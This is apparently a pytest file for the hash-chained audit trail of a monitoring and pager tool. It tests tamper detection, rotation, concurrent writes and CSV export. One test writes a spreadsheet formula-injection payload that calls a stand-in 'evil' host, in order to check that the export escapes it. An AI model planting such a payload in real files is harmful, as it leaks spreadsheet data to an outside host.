"""The audit trail: a changed, removed or truncated record is found; records are rotated
after the retention and not before; several processes append one chain; the pager's
pages, deliveries, acknowledgements and refused requests and `insmon maintenance`'s
windows reach it."""

from __future__ import annotations

import csv
import json
import multiprocessing
import subprocess
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from monitor.audit import Trail
from ops.stack import wait_for
from probes.base import SHANGHAI
from tests.conftest import INSMON
from tests.test_pager import Rig, notification

# The 27th of last month, 10:00, by the test's own clock: past, whatever day it runs,
# and 40 days before it are always in the month before that (two month files).
NOW = (datetime.now(SHANGHAI).replace(day=1) - timedelta(days=1)).replace(
    day=27, hour=10, minute=0, second=0, microsecond=0)


def filled(folder: Path, count: int = 30, start: datetime = NOW - timedelta(days=40),
           key: bytes | None = None) -> Trail:
    trail = Trail(folder, key)
    for i in range(count):
        trail.append("pager-delivered", f"person{i % 3}", "ok", {"n": i},
                     at=start + timedelta(days=i))
    return trail


def lines_of(trail: Trail) -> list[tuple[Path, list[str]]]:
    return [(p, p.read_text(encoding="utf-8").splitlines(keepends=True))
            for p in trail.files()]


@pytest.mark.dates
def test_an_untouched_trail_verifies_across_months(tmp_path: Path) -> None:
    trail = filled(tmp_path)
    assert len(trail.files()) == 2  # October and November
    assert trail.verify() == []
    assert [r["seq"] for r in trail.records()] == list(range(1, 31))


def test_a_changed_record_is_found_where_it_is(tmp_path: Path) -> None:
    trail = filled(tmp_path)
    path, lines = lines_of(trail)[0]
    record = json.loads(lines[4])
    record["who"] = "somebody-else"
    lines[4] = json.dumps(record, ensure_ascii=False, separators=(",", ":")) + "\n"
    path.write_text("".join(lines), encoding="utf-8")
    faults = [str(f) for f in trail.verify()]
    assert faults == [f"{path.name}:5: record 5 was changed (its hash does not match it)"]


def test_a_removed_record_is_found_and_so_is_a_removed_tail(tmp_path: Path) -> None:
    trail = filled(tmp_path)
    path, lines = lines_of(trail)[0]
    path.write_text("".join(lines[:7] + lines[8:]), encoding="utf-8")
    faults = [str(f) for f in trail.verify()]
    assert f"{path.name}:8: the record before 9 is missing or was changed" in faults
    assert f"{path.name}:8: records 8 to 8 are missing" in faults

    tail = filled(tmp_path / "tail")
    path, lines = lines_of(tail)[-1]
    path.write_text("".join(lines[:-2]), encoding="utf-8")
    assert [f.what for f in tail.verify()] == [
        "the trail ends at record 28, HEAD says 30: its last records were removed or changed"]


def test_a_rewritten_chain_is_found_when_the_trail_has_a_key(tmp_path: Path) -> None:
    """Without the key, whoever edits a record cannot make its hash again."""
    keyed = filled(tmp_path, key=b"the site's secret")
    forger = Trail(tmp_path)  # recomputes every hash with plain SHA-256
    path, lines = lines_of(keyed)[0]
    prev = "0" * 64
    rewritten = []
    for line in lines:
        record = json.loads(line)
        record["prev"] = prev
        record["hash"] = prev = forger._digest(record)
        rewritten.append(json.dumps(record, separators=(",", ":")) + "\n")
    path.write_text("".join(rewritten), encoding="utf-8")
    assert len(keyed.verify()) >= len(lines)
    assert filled(tmp_path / "other", key=b"k").verify() == []


@pytest.mark.dates
def test_records_are_rotated_after_the_retention_and_not_before(tmp_path: Path) -> None:
    trail = Trail(tmp_path)
    trail.append("maintenance-declared", "ops", "ok", at=NOW - timedelta(days=220))
    trail.append("maintenance-declared", "ops", "ok", at=NOW - timedelta(days=189))
    trail.append("maintenance-declared", "ops", "ok", at=NOW - timedelta(days=100))
    old, kept, recent = (f"audit-{(NOW - timedelta(days=d)):%Y-%m}.jsonl"
                         for d in (220, 189, 100))
    trail.append("config", "insmon", "unchanged", at=NOW)
    names = [p.name for p in trail.files()]
    assert old not in names and kept in names and recent in names
    rotated = [r for r in trail.records() if r["event"] == "rotated"]
    assert [r["detail"]["file"] for r in rotated] == [old]
    assert trail.verify() == []
    # the oldest kept is 189 days old: kept until its 190th day is over
    trail.append("config", "insmon", "unchanged", at=NOW + timedelta(hours=12))
    assert kept in [p.name for p in trail.files()]
    trail.append("config", "insmon", "unchanged", at=NOW + timedelta(days=1, hours=1))
    assert kept not in [p.name for p in trail.files()]
    assert trail.verify() == []


def test_a_month_removed_without_rotation_is_found(tmp_path: Path) -> None:
    trail = filled(tmp_path)
    first = trail.files()[0]
    removed = len(first.read_text().splitlines())
    first.unlink()
    assert [f.what for f in trail.verify()] == [
        f"records before {removed + 1} are missing (no rotation of them is recorded)"]


def _append_many(folder: str, name: str, count: int) -> None:
    trail = Trail(folder)
    for i in range(count):
        trail.append("config", name, "ok", {"i": i})


def test_processes_appending_together_make_one_unbroken_chain(tmp_path: Path) -> None:
    context = multiprocessing.get_context("spawn")
    workers = [context.Process(target=_append_many, args=(str(tmp_path), f"p{i}", 150))
               for i in range(3)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(timeout=120)
        assert worker.exitcode == 0
    trail = Trail(tmp_path)
    assert [r["seq"] for r in trail.records()] == list(range(1, 451))
    assert trail.verify() == []


@pytest.mark.dates
def test_the_command_verifies_filters_and_exports_csv(tmp_path: Path) -> None:
    trail = filled(tmp_path / "trail")
    done = subprocess.run([INSMON, "audit", str(tmp_path / "trail"), "--verify"],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0 and "every record is as written" in done.stdout
    out = tmp_path / "audit.csv"
    since, until = (NOW - timedelta(days=40 - 10)), (NOW - timedelta(days=40 - 15))
    done = subprocess.run([INSMON, "audit", str(tmp_path / "trail"), "--from",
                           since.strftime("%Y-%m-%d %H:%M"), "--to",
                           until.strftime("%Y-%m-%d %H:%M"), "--csv", str(out)],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(out.open(encoding="utf-8-sig")))
    assert rows[0][:5] == ["序号 seq", "时间 time (Beijing)", "人员 who", "事件 event",
                           "结果 outcome"]
    assert [int(r[0]) for r in rows[1:]] == list(range(11, 16))
    path, lines = lines_of(trail)[-1]
    path.write_text("".join(lines[:3] + lines[4:]), encoding="utf-8")
    done = subprocess.run([INSMON, "audit", str(tmp_path / "trail"), "--verify"],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 1 and "missing" in done.stdout, done.stdout


@pytest.mark.dates
def test_a_refused_maintenance_window_is_on_record_with_who_and_why(tmp_path: Path) -> None:
    tomorrow = datetime.now(SHANGHAI).date() + timedelta(days=1)
    done = subprocess.run(
        [INSMON, "maintenance", "--alertmanager", "http://127.0.0.1:9", "--site", "h1",
         "--from", f"{tomorrow:%Y-%m-%d} 01:00", "--to",
         f"{tomorrow + timedelta(days=29):%Y-%m-%d} 05:00", "--comment",
         "平台切换", "--audit", str(tmp_path)], capture_output=True, text=True, timeout=60,
        env={"PATH": "/usr/bin:/bin", "SUDO_USER": "zhangsan"})
    assert done.returncode == 1 and "over 14 days" in done.stderr
    [record] = Trail(tmp_path).records()
    assert (record["event"], record["who"], record["outcome"]) == (
        "maintenance-declared", "zhangsan", "refused")
    assert record["detail"]["comment"] == "平台切换" and "14 days" in record["detail"]["why"]


@pytest.fixture
def rig(tmp_path: Path) -> Iterator[Rig]:
    rig = Rig(tmp_path)
    try:
        yield rig
    finally:
        rig.close()


def test_the_pager_records_the_page_its_delivery_the_ack_and_refused_requests(
        rig: Rig) -> None:
    pager = rig.start()
    trail = Trail(pager.database.parent / "audit")
    incident = json.loads(pager.post("/network", notification())[1])["incident"]
    wait_for(lambda: rig.wecom.texts(), 10, "the page")
    done = subprocess.run([INSMON, "pager", "ack", str(incident), "--by", "wang", "-c",
                           str(pager.config_file)], capture_output=True, text=True,
                          timeout=60)
    assert done.returncode == 0, done.stderr
    stranger = {**pager.auth, "Authorization": "Bearer wrong"}
    import urllib.error
    import urllib.request
    for _ in range(3):  # a storm of them is one record a minute
        try:
            urllib.request.urlopen(urllib.request.Request(
                pager.url + "/network", data=b"{}", method="POST", headers=stranger),
                timeout=10)
        except urllib.error.HTTPError as exc:
            assert exc.code == 401

    def recorded() -> dict[str, list[dict]]:
        found: dict[str, list[dict]] = {}
        for record in trail.records():
            found.setdefault(record["event"], []).append(record)
        return found

    wait_for(lambda: {"pager-opened", "pager-delivered", "pager-acknowledged",
                      "pager-refused"} <= set(recorded()), 30, "the trail's records")
    events = recorded()
    assert [r["outcome"] for r in events["config"]] == ["changed"]  # first seen
    ack = events["pager-acknowledged"][0]
    assert ack["who"] == "wang" and ack["detail"]["incident"] == incident
    assert events["pager-delivered"][0]["detail"]["channel"]
    assert len(events["pager-refused"]) == 1
    assert "wrong token" in events["pager-refused"][0]["detail"]["detail"]
    assert trail.verify() == []
    # a restart on the same config: unchanged, and nothing copied twice
    rig.pager.stop()
    rig.pager.start()
    wait_for(lambda: len(recorded()["config"]) == 2, 20, "the second start's record")
    events = recorded()
    assert events["config"][1]["outcome"] == "unchanged"
    ids = [r["detail"]["event_id"] for r in trail.records() if r["event"].startswith("pager-")]
    assert len(ids) == len(set(ids)) and ids == sorted(ids)
    assert trail.verify() == []


def test_insmon_run_records_each_config_load_with_its_digest_before_and_after(
        tmp_path: Path) -> None:
    import signal

    from monitor.audit import file_digest
    from ops.stack import free_port

    config = tmp_path / "insmon.yaml"
    text = f"listen: 127.0.0.1:{free_port()}\nchecks:\n- {{name: cpu, kind: cpu}}\n"
    config.write_text(text)
    first = file_digest(config)
    trail = Trail(tmp_path / "audit")
    log = tmp_path / "insmon.log"
    process = subprocess.Popen([INSMON, "run", "-c", str(config), "--audit",
                                str(tmp_path / "audit")], stdout=subprocess.DEVNULL,
                               stderr=log.open("w"))
    try:
        def outcomes() -> list[str]:
            return [r["outcome"] for r in trail.records() if r["event"] == "config"]

        wait_for(lambda: outcomes() == ["loaded"], 30, "the first load's record")
        # its SIGHUP handler is in place once it says it started (a HUP before would
        # end it, as any process's)
        wait_for(lambda: " started with " in log.read_text(), 30, "insmon to start")
        config.write_text(text.replace("kind: cpu", "kind: cpu, interval: 7s"))
        process.send_signal(signal.SIGHUP)
        wait_for(lambda: outcomes() == ["loaded", "reloaded"], 30, "the reload's record")
        config.write_text("checks: [")
        process.send_signal(signal.SIGHUP)
        wait_for(lambda: outcomes() == ["loaded", "reloaded", "rejected"], 30,
                 "the rejected reload's record")
    finally:
        process.terminate()
        process.wait(timeout=30)
    loaded, reloaded, rejected = (r["detail"] for r in trail.records())
    assert (loaded["before"], loaded["after"]) == (None, first)
    assert reloaded["before"] == first and reloaded["after"] not in (None, first)
    assert rejected["before"] == reloaded["after"] and rejected["after"] is None
    assert trail.verify() == []


def test_a_removed_last_month_with_head_moved_back_is_found_with_a_key(
        tmp_path: Path) -> None:
    """Without the key nobody can seal HEAD again: the removed tail shows."""
    trail = filled(tmp_path, key=b"the site's secret")
    last_file = trail.files()[-1]
    before = [r for r in trail.records() if r["at"] < last_file.name[6:13]]
    last_file.unlink()
    forger = Trail(tmp_path)  # no key
    (tmp_path / "HEAD").write_text(
        f"{before[-1]['seq']} {before[-1]['hash']} "
        f"{forger._seal(before[-1]['seq'], before[-1]['hash'])}\n")
    assert [f.what for f in trail.verify()] == [
        "does not match its seal: it was changed (insmon audit --verify)".join(
            (f"{tmp_path / 'HEAD'} ", ""))]


@pytest.mark.dates
def test_records_filed_across_a_month_boundary_out_of_order_verify(tmp_path: Path) -> None:
    """The pager copies its store's older events after its start's own record: a record
    can be a moment older than the one before it, and in the month before."""
    trail = Trail(tmp_path)
    midnight = (NOW + timedelta(days=10)).replace(day=1, hour=0, minute=0)  # this month's
    for at in (midnight - timedelta(seconds=2), midnight + timedelta(milliseconds=500),
               midnight - timedelta(milliseconds=100)):
        trail.append("config", "insmon", "ok", at=at)
    assert trail.verify() == []
    assert [r["seq"] for r in trail.records()] == [1, 2, 3]


@pytest.mark.dates
def test_a_line_that_is_not_utf8_is_named_and_stops_nothing(tmp_path: Path) -> None:
    trail = filled(tmp_path)
    path = trail.files()[0]
    with path.open("ab") as out:
        out.write(b"\xff\xfe garbage\n")
    lines = len(path.read_bytes().splitlines())
    assert [str(f) for f in trail.verify()] == [
        f"{path.name}:{lines}: not a record of the trail"]
    trail.append("config", "insmon", "ok")  # the trail goes on
    assert len(list(trail.records())) == 31
    done = subprocess.run([INSMON, "audit", str(tmp_path), "--verify"], capture_output=True,
                          text=True, timeout=60)
    assert done.returncode == 1 and "not a record of the trail" in done.stdout
    assert "Traceback" not in done.stderr


def test_a_name_or_comment_that_looks_like_a_formula_stays_text_in_csv(
        tmp_path: Path) -> None:
    trail = Trail(tmp_path / "trail")
    trail.append("maintenance-declared", '=HYPERLINK("http://evil/"&A1,"x")', "ok",
                 "=1+2")
    out = tmp_path / "audit.csv"
    done = subprocess.run([INSMON, "audit", str(tmp_path / "trail"), "--csv", str(out)],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    [row] = list(csv.reader(out.open(encoding="utf-8-sig")))[1:]
    assert row[2] == '\'=HYPERLINK("http://evil/"&A1,"x")' and row[5] == "'=1+2"


def test_the_pager_after_its_store_is_restored_copies_the_new_events(tmp_path: Path) -> None:
    """A store restored from a backup reuses event ids: its new events are still copied,
    and the trail says the store changed under it."""
    from pager.audit import Auditor, refused
    from pager.store import Store

    trail = Trail(tmp_path / "audit")
    store = Store(tmp_path / "pager.db")
    for i in range(5):
        refused(store, f"10.0.0.{i}", "wrong token", when=1_790_000_000.0 + i)
    Auditor(store, trail).copy()
    store.close()
    (tmp_path / "pager.db").unlink()
    restored = Store(tmp_path / "pager.db")  # an older copy: here, an empty one
    for i in range(3):
        refused(restored, f"10.0.1.{i}", "no token", when=1_790_000_100.0 + i)
    Auditor(restored, trail).copy()
    events = [r for r in trail.records()]
    assert [r["event"] for r in events[-4:]] == ["pager-store-replaced"] + ["pager-refused"] * 3
    assert [json.loads(r["detail"]["detail"])["client"] for r in events[-3:]] == [
        "10.0.1.0", "10.0.1.1", "10.0.1.2"]
    assert trail.verify() == []
